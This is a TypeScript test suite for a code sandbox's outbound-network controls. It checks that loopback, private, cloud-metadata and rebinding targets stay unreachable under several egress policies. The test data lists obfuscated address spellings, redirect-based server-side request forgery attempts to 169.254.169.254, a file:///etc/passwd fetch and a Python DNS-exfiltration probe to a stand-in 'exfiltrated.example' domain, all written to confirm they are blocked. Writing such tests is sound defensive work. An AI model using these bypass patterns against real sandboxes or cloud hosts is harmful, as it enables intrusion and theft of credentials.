// Blocked hosts, under every policy, in every spelling and whatever the resolver answers, requested from a machine and from
// an isolate. The test has its own resolver, so that names can change their addresses between two requests.

import { execFileSync } from "node:child_process";
import { once } from "node:events";
import type { RequestListener } from "node:http";
import { createServer, type Server as NetServer } from "node:net";
import { networkInterfaces } from "node:os";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import * as z from "zod";
import { connect, type McpClient } from "../support/clients.ts";
import { type Server, startServer } from "../support/start-server.ts";
import { type NameServer, startNameServer } from "./name-server.ts";
import { type RawOutcome, sendRaw } from "./raw-requests.ts";
import { canStandIn, type StandIn, startStandIn } from "./stand-in.ts";

if (!canStandIn) console.warn("SKIPPED: the matrix of what goes out needs root, for stand-ins on ports 80, 443 and 53");

type Verdict =
  | "reached"
  | "never"
  | "unreachable"
  | "denied"
  | "unlisted"
  | "ceiling"
  | "port"
  | "malformed"
  | `HTTP ${number}`;

function verdictOf(status: number, header: string | null | undefined): Verdict {
  switch (header) {
    case "never":
    case "unreachable":
    case "denied":
    case "unlisted":
    case "ceiling":
    case "port":
      return header;
    default:
      return status === 200 ? "reached" : status === 400 ? "malformed" : `HTTP ${status}`;
  }
}

const policies = {
  none: { egress: "none" },
  packages: { egress: "packages" },
  listed: { egress: "none", allow: ["web.example", "*.rebound.example", "www.pypi.org"] },
  internet: { egress: "internet", deny: ["denied.example"] },
};
type Policy = keyof typeof policies;

describe.skipIf(!canStandIn)("where nothing goes", () => {
  let standIn: StandIn;
  let names: NameServer;
  /** What would be reached, were an address of this host's own network reached. */
  let victim: NetServer;
  let victims = 0;
  let open: Server;
  /** With a ceiling, and with this host's loopback closed as it is without any table of names for tests. */
  let bounded: Server;
  let client: McpClient;
  let boundedClient: McpClient;

  const routes: Record<string, RequestListener> = {
    // A host whose name leads elsewhere as soon as it has answered once.
    "/then": (request, response) => {
      const to = new URL(request.url ?? "", "http://x").searchParams.get("to") ?? "";
      names.addresses.set(String(request.headers.host), to.split(","));
      response.setHeader("connection", "close").end("first\n");
    },
  };

  beforeAll(async () => {
    standIn = await startStandIn({ routes });
    names = await startNameServer(standIn.address);
    victim = createServer((socket) => {
      victims += 1;
      socket.end("HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n");
    });
    if (lanAddress() === NO_LAN) console.warn("SKIPPED: this host has no private address of its own to lead names to");
    else await once(victim.listen(80, lanAddress()), "listening");
    const { NODE_EXTRA_CA_CERTS = "", ...testHosts } = standIn.environment([]);
    const { command } = names;
    [open, bounded] = await Promise.all([
      startServer({ command, env: { NODE_EXTRA_CA_CERTS, ...testHosts } }),
      startServer({
        command,
        env: { NODE_EXTRA_CA_CERTS, EGRESS_CEILING: "packages *.example", EGRESS_DEFAULT: "none" },
      }),
    ]);
    [client, boundedClient] = await Promise.all([connect("2026", open), connect("2026", bounded)]);
    for (const [sandbox, settings] of Object.entries(policies))
      await client.call("sandbox", { action: "configure", ...settings, sandbox });
    await boundedClient.call("sandbox", { action: "configure", egress: "internet" });
  });

  beforeEach(() => {
    names.addresses.clear();
    for (const name of ["web.example", "denied.example", "www.pypi.org"]) names.addresses.set(name, [standIn.address]);
    for (const [name, addresses] of Object.entries(rebound()))
      names.addresses.set(`${name}.rebound.example`, addresses);
    victims = 0;
  });

  afterAll(async () => {
    await Promise.all([client?.close(), boundedClient?.close()]);
    await Promise.all([open?.stop(), bounded?.stop()]);
    victim?.close();
    names?.close();
    await standIn?.close();
  });

  /** Names that a policy may allow, and what they lead to. */
  const rebound = (): Record<string, string[]> => ({
    loopback6: ["::1"],
    mapped: ["::ffff:10.0.0.1"],
    private: ["10.0.0.1"],
    lan: [lanAddress()],
    metadata: ["169.254.169.254"],
    shared: ["100.64.0.1"],
    zero: ["0.0.0.0"],
    multicast: ["224.0.0.1"],
    broadcast: ["255.255.255.255"],
    local6: ["fe80::1"],
    unique6: ["fd00::1"],
    nat64: ["64:ff9b::a00:1"],
    "nat64-local": ["64:ff9b:1::a00:1"],
    "six-to-four": ["2002:a00:1::"],
    teredo: ["2001::1"],
    compatible: ["::10.0.0.1"],
    "site-local": ["fec0::1"],
    benchmark: ["198.18.0.1"],
    relay: ["192.88.99.1"],
    "this-network": ["0.1.2.3"],
    "cloud-agent": ["168.63.129.16"],
    ...Object.fromEntries(ownAddresses().map((address, index) => [`own${index}`, [address]])),
    "both-private": ["10.0.0.1", "fd00::1"],
  });

  const always = (verdict: Verdict): Record<Policy, Verdict> => ({
    ...{ none: verdict, packages: verdict, listed: verdict, internet: verdict },
  });
  const whenAllowed = (verdict: Verdict): Record<Policy, Verdict> => ({
    ...{ none: "unlisted", packages: "unlisted", listed: verdict, internet: verdict },
  });

  /** As a Host header and a URL have it. */
  const hosts: Record<string, Record<Policy, Verdict>> = {
    "web.example": whenAllowed("reached"),
    "WEB.example": whenAllowed("reached"),
    "www.pypi.org": { none: "unlisted", packages: "reached", listed: "reached", internet: "reached" },
    "denied.example": { none: "unlisted", packages: "unlisted", listed: "unlisted", internet: "denied" },
    // A name of this host's, of its network, or of a cloud's.
    ...Object.fromEntries(
      [
        ...[
          "localhost",
          "localhost.",
          "LOCALHOST",
          "a.localhost",
          "localhost.localdomain",
          "intranet",
          "printer.local",
        ],
        ...["metadata.google.internal", "host.docker.internal", "kubernetes", "db.lan", "router.home.arpa"],
        ...["kubernetes.default.svc.cluster.local", "instance-data", "x.onion", "x.invalid"],
      ].map((host) => [host, always("never")]),
    ),
    // Addresses in the spellings that programs take.
    ...Object.fromEntries(
      [
        ...[
          "127.0.0.1",
          "127.1",
          "2130706433",
          "0x7f.1",
          "0x7f000001",
          "0177.0.0.1",
          "017700000001",
          "127.0.0.1.",
          "0",
        ],
        ...["127。0。0。1", "0.0.0.0", "10.0.0.1", "100.64.0.1", "169.254.169.254", "2852039166", "192.168.1.1"],
        ...["172.16.0.1", "224.0.0.1", "255.255.255.255", "198.18.1.0", "[::1]", "[::]", "[::ffff:127.0.0.1]"],
        ...["[::ffff:7f00:1]", "[0:0:0:0:0:ffff:0a00:0001]", "[::127.0.0.1]", "[fe80::1]", "[fd00::1]", "[ff02::1]"],
        ...["[64:ff9b::7f00:1]", "[2002:7f00:1::]", "127.0.0.1:8787", "localhost:8787", "[::1]:8787"],
      ].map((host) => [host, always("never")]),
    ),
    ...Object.fromEntries(
      ["127.0.0.1.example..", "[fe80::1%25eth0]", "[::1", "256.256.256.256", "1.2.3.4.5"].map((host) => [
        host,
        host === "127.0.0.1.example.." ? { ...always("unlisted"), internet: "unreachable" } : always("malformed"),
      ]),
    ),
    // Public ones, which nobody has listed.
    "93.184.216.34": always("unlisted"),
    "[2606:4700::1111]": always("unlisted"),
    ...Object.fromEntries(Object.keys(rebound()).map((name) => [`${name}.rebound.example`, whenAllowed("never")])),
    // Which does not exist.
    "10-0-0-1.default.pod.example": { ...always("unlisted"), internet: "unreachable" },
  };
  const expected = (policy: Policy): Record<string, Verdict> =>
    Object.fromEntries(Object.entries(hosts).map(([host, verdicts]) => [host, verdicts[policy]]));

  describe.each(Object.keys(policies) as Policy[])("under %s", (policy) => {
    // TLS takes longer, and makes no difference to the verdict: for one policy all cells, to show that.
    test.each(policy === "internet" ? ["HTTP", "HTTPS"] : ["HTTP"])("from a machine over %s", async (scheme) => {
      const outcomes = await sendRaw(
        client,
        policy,
        Object.fromEntries(
          Object.keys(hosts).map((host) => [
            host,
            {
              ...{ host: "any.example", tls: scheme === "HTTPS" },
              send: `GET / HTTP/1.1\r\nHost: ${Buffer.from(host).toString("latin1")}\r\n\r\n`,
            },
          ]),
        ),
      );
      expect(
        Object.fromEntries(Object.entries(outcomes).map(([host, outcome]) => [host, rawVerdict(outcome)])),
      ).toEqual(expected(policy));
      expect(victims).toBe(0);
    });

    test("from an isolate", async () => {
      const got = await fetchAll(
        client,
        policy,
        Object.keys(hosts).map((host) => `http://${host}/`),
      );
      expect(got).toEqual(Object.values(expected(policy)));
      expect(victims).toBe(0);
    });
  });

  const fetchAll = async (on: McpClient, sandbox: string, urls: string[]): Promise<Verdict[]> => {
    const code = `
      return Promise.all(input.map(async (url) => {
        if (!URL.canParse(url)) return [400, null];
        const response = await fetch(url);
        await response.text();
        return [response.status, response.headers.get("x-sandbox-egress")];
      }));`;
    const { structured } = await on.call("run_js", { code, input: urls, sandbox });
    return z
      .array(z.tuple([z.number(), z.string().nullable()]))
      .parse(structured?.["value"])
      .map(([status, header]) => verdictOf(status, header));
  };

  describe("with a ceiling, and this host's loopback closed", () => {
    const wrangler = (): string => new URL(bounded.origin).port;

    test.each<[host: string, verdict: Verdict]>([
      ["web.example", "never"],
      ["web.example:WRANGLER", "port"],
      ["web.example:443", "never"],
      ["loopback6.rebound.example", "never"],
      ["mapped-loopback.example", "never"],
      ["both.example", "never"],
      ["www.pypi.org", "never"],
      ["www.pypi.org:WRANGLER", "port"],
      ["lan.rebound.example", "never"],
      ["beyond.test", "ceiling"],
      ["example.com", "ceiling"],
      ["93.184.216.34", "ceiling"],
      ["127.0.0.1:WRANGLER", "never"],
    ])("%s is %s", async (pattern, verdict) => {
      names.addresses.set("mapped-loopback.example", ["::ffff:127.0.0.1"]);
      names.addresses.set("both.example", ["127.0.0.1", "::1"]);
      names.addresses.set("www.pypi.org", ["127.0.0.1"]);
      names.addresses.set("web.example", ["127.0.0.1"]);
      const host = pattern.replace("WRANGLER", wrangler());
      const send = `GET /health HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
      const { machine } = await sendRaw(boundedClient, "default", { machine: { host: "a.example", tls: false, send } });
      expect(rawVerdict(machine)).toBe(verdict);
      expect(await fetchAll(boundedClient, "default", [`http://${host}/health`])).toEqual([verdict]);
      expect(victims).toBe(0);
    });
  });

  describe("a name that changes its address", () => {
    const elsewhere = (): string[] => [
      "10.0.0.1",
      "169.254.169.254",
      "fd00::1",
      lanAddress(),
      `10.0.0.1,${lanAddress()}`,
    ];

    test("is refused at the new address, on a new connection and on the same one", async () => {
      for (const [index, to] of elsewhere().entries()) {
        for (const reuse of ["-H 'Connection: close'", ""]) {
          const name = `turn${index}${reuse.length}.rebound.example`;
          names.addresses.set(name, [standIn.address]);
          const { structured } = await client.call("exec", {
            command: `curl -s -m 9 ${reuse} 'http://${name}/then?to=${to}' http://${name}/again -o /dev/null -o /dev/null -w '%{http_code} %{num_connects}\\n'`,
            sandbox: "listed",
          });
          expect(structured?.["stdout"], to).toMatch(/^200 1\n(403|502) [01]\n$/);
        }
      }
      expect(victims).toBe(0);
    });

    test("is refused at the new address to an isolate", async () => {
      const turns = elsewhere().map((to, index) => [`js${index}.rebound.example`, to] as const);
      for (const [name] of turns) names.addresses.set(name, [standIn.address]);
      const urls = turns.map(([name, to]) => `http://${name}/then?to=${to}`);
      expect(await fetchAll(client, "listed", urls)).toEqual(turns.map(() => "reached"));
      expect(
        await fetchAll(
          client,
          "listed",
          turns.map(([name]) => `http://${name}/`),
        ),
      ).toEqual(turns.map(() => "never"));
      expect(victims).toBe(0);
    });

    test("with one allowed address among several does not give access to the others", async () => {
      for (const addresses of [
        [standIn.address, lanAddress()],
        [lanAddress(), standIn.address],
        ["fd00::1", "10.0.0.1", standIn.address, "::ffff:10.0.0.1"],
      ]) {
        names.addresses.set("many.rebound.example", addresses);
        for (let count = 0; count < 5; count += 1) {
          const [verdict] = await fetchAll(client, "listed", ["http://many.rebound.example/"]);
          expect(["reached", "never"]).toContain(verdict);
        }
      }
      expect(victims).toBe(0);
    });
  });

  describe("a redirect", () => {
    const port = (): string => new URL(open.origin).port;

    test.each<[to: string, machine: string, isolate: Verdict]>([
      ["http://169.254.169.254/latest/meta-data/", "403", "never"],
      ["http://2852039166/", "403", "never"],
      ["https://denied.example/", "403", "denied"],
      ["http://lan.rebound.example/", "403", "never"],
      ["http://metadata.google.internal/", "403", "never"],
      // The machine's own loopback, where nothing of this host's listens.
      ["http://127.0.0.1:PORT/health", "exit 7", "never"],
      ["http://localhost:PORT/health", "exit 7", "never"],
      ["http://[::1]:PORT/health", "exit 7", "never"],
      ["http://[::ffff:127.0.0.1]:PORT/health", "exit 7", "never"],
      ["http://0x7f.1:PORT/health", "exit 7", "never"],
      // No way out but 80 and 443.
      ["http://lan.rebound.example:PORT/", "exit 7", "port"],
    ])("to %s is not followed", async (pattern, machine, isolate) => {
      const to = pattern.replace("PORT", port());
      const url = `https://web.example/redirect?to=${encodeURIComponent(to)}`;
      const { structured } = await client.call("exec", {
        command: `curl -sLg -m 9 -o /dev/null -w '%{http_code}' '${url}' || echo " exit $?"`,
        sandbox: "internet",
      });
      const got = String(structured?.["stdout"]).replace(/^\d+ (?=exit)|\n$/g, "");
      expect(got).toBe(machine);
      expect(await fetchAll(client, "internet", [url])).toEqual([isolate]);
      expect(victims).toBe(0);
    });

    test("is followed only by the client itself, up to its limit", async () => {
      const url = "https://web.example/redirect?to=https%3A%2F%2Fweb.example%2Fredirect%3Fto%3D%2Fredirect";
      const { structured } = await client.call("exec", {
        command: `curl -sL -m 20 --max-redirs 20 -o /dev/null -w '%{num_redirects}' '${url}'`,
        sandbox: "internet",
      });
      expect(Number(structured?.["stdout"])).toBeLessThanOrEqual(21);
    });
  });

  test("anything but TCP to ports 80 and 443 is refused within a second", async () => {
    const lastPort = Number(new URL(open.origin).port);
    const script = `
import socket, time
def attempt(family, kind, address, port):
    start = time.time()
    with socket.socket(family, kind) as s:
        s.settimeout(5)
        try:
            s.connect((address, port)); s.send(b"x"); s.recv(10)
            said = "answered"
        except OSError as error: said = "refused" if time.time() - start < 1 else type(error).__name__
    return said
tcp, udp = socket.SOCK_STREAM, socket.SOCK_DGRAM
v4 = ("10.0.0.1", "10.1.2.3", "127.0.0.1", "100.64.0.1", "169.254.169.254", "192.168.1.1", "255.255.255.255", "8.8.8.8", "${lanAddress()}", "198.18.9.9")
v6 = ("::1", "::ffff:10.0.0.1", "::ffff:8.8.8.8", "64:ff9b::7f00:1", "fd00::1", "2606:4700::1111")
said = {(kind.name, address, port): attempt(family, kind, address, port)
    for family, addresses in ((socket.AF_INET, v4), (socket.AF_INET6, v6)) for address in addresses
    for kind, ports in ((tcp, (22, 25, 853, 5432, ${lastPort})), (udp, (123, 443, 5353, 9999))) for port in ports}
echo = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
echo.settimeout(5)
for address in ("8.8.8.8", "169.254.169.254", "${lanAddress()}"):
    try:
        echo.sendto(bytes.fromhex("0800f7ff00000000"), (address, 0)); echo.recv(100)
        said["ping", address] = "answered"
    except OSError as error: said["ping", address] = "refused" if isinstance(error, PermissionError) else type(error).__name__
print(sorted({f"{value} {key}" for key, value in said.items() if value != "refused"}), len(said))`;
    const { structured } = await client.call("exec", { command: "python3 -", stdin: script, sandbox: "internet" });
    expect(structured?.["stdout"]).toBe("[] 147\n");
  });

  test("an isolate has fetch, with WebSockets by upgrade, and no other access to the network", async () => {
    const code = `
      const upgrade = async (url) => {
        const { status, webSocket } = await fetch(url, { headers: { upgrade: "websocket" } });
        if (webSocket === null) return status;
        webSocket.accept();
        webSocket.send("hello");
        const { data } = await new Promise((resolve) => webSocket.addEventListener("message", resolve, { once: true }));
        webSocket.close();
        return data;
      };
      const fails = async (what) => { try { await what(); return false; } catch { return true; } };
      return {
        allowed: await upgrade("https://web.example/socket"),
        denied: await upgrade("https://denied.example/socket"),
        private: await upgrade("http://lan.rebound.example/"),
        refused: await Promise.all([
          () => import("cloudflare:sockets"), () => import("cloudflare:workers"), () => import("node:net"), () => import("node:dgram"),
          () => import("node:dns"), () => import("node:http"), () => import("https://web.example/"), () => new WebSocket("wss://web.example/socket"),
          () => new EventSource("https://web.example/"), () => fetch("file:///etc/passwd"), () => fetch("ftp://web.example/"),
          () => globalThis.connect("web.example:80"),
        ].map(fails)),
      };`;
    const { structured } = await client.call("run_js", { code, sandbox: "internet" });
    expect(structured?.["value"]).toEqual({
      ...{ allowed: "echo hello", denied: 403, private: expect.toBeOneOf([403, 502]) },
      refused: Array(12).fill(true),
    });
    expect(victims).toBe(0);
  });

  test("this host's resolver is asked only for names that are allowed", async () => {
    names.addresses.set("asked.rebound.example", [standIn.address]);
    names.asked.clear();
    const script = `
import socket, urllib.request
data = "".join(f"{n:02x}" for n in range(28))
for n in range(50): socket.getaddrinfo(f"{data}.{n}.exfiltrated.example", 443)
for host in ("denied.example", "unlisted.example", f"{data}.unlisted.example", "asked.rebound.example"):
    for scheme in ("http", "https"):
        try: print(urllib.request.urlopen(f"{scheme}://{host}/", timeout=9).status)
        except OSError as error: print(getattr(error, "code", error))`;
    const { structured } = await client.call("exec", { command: "python3 -", stdin: script, sandbox: "listed" });
    expect(structured?.["stdout"]).toBe("403\n403\n403\n403\n403\n403\n200\n200\n");
    await fetchAll(client, "listed", ["http://denied.example/", "http://js.exfiltrated.example/"]);
    expect([...names.asked]).toEqual(["asked.rebound.example"]);
  });
});

function rawVerdict({ answers, end }: RawOutcome): Verdict | string {
  const [answer] = answers;
  if (answer === undefined)
    return /^(RemoteDisconnected|ConnectionResetError|BrokenPipeError|closed)$/.test(end) ? "ended" : end;
  return verdictOf(answer.status, answer.headers.find(([name]) => name === "x-sandbox-egress")?.[1]);
}

/** This host's own, the public ones too. Interfaces of Docker's containers come and go with the machines of other tests. */
const ownAddresses = (): string[] =>
  Object.entries(networkInterfaces())
    .flatMap(([name, addresses]) => (name.startsWith("veth") ? [] : (addresses ?? [])))
    .filter(({ internal }) => !internal)
    .map(({ address }) => address);

/** One of this host's own that is not loopback, and private. */
function lanAddress(): string {
  // Of interfaces that have no carrier too, such as a bridge without containers.
  const addresses = execFileSync("ip", ["-oneline", "-4", "address"], { encoding: "utf8" }).matchAll(/inet ([\d.]+)/g);
  const all = [...addresses].map(([, address = ""]) => address);
  return all.find((address) => /^(10|172\.(1[6-9]|2\d|3[01])|192\.168)\./.test(address)) ?? NO_LAN;
}

/** Where nobody is. */
const NO_LAN = "10.255.255.254";
